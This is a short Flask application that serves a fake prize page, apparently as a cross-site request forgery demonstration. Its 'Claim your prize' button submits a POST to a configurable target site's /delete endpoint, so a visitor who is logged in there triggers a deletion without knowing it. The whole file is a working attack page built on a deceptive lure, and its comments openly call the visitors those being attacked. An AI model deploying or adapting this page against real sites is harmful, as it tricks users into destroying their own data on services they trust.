"""Somebody else's site. Visit it while you are logged in at the other."""

from flask import Flask, render_template_string

app = Flask(__name__)
app.config.from_prefixed_env()  # FLASK_TARGET: whose visitors are attacked

PAGE = """<!doctype html>
<title>Congratulations</title>
<p>You have won a pair of binoculars.</p>
<form method="post" action="{{ config.TARGET }}/delete">
  <button>Claim your prize</button>
</form>
"""


@app.get("/")
def prize():
    return render_template_string(PAGE)
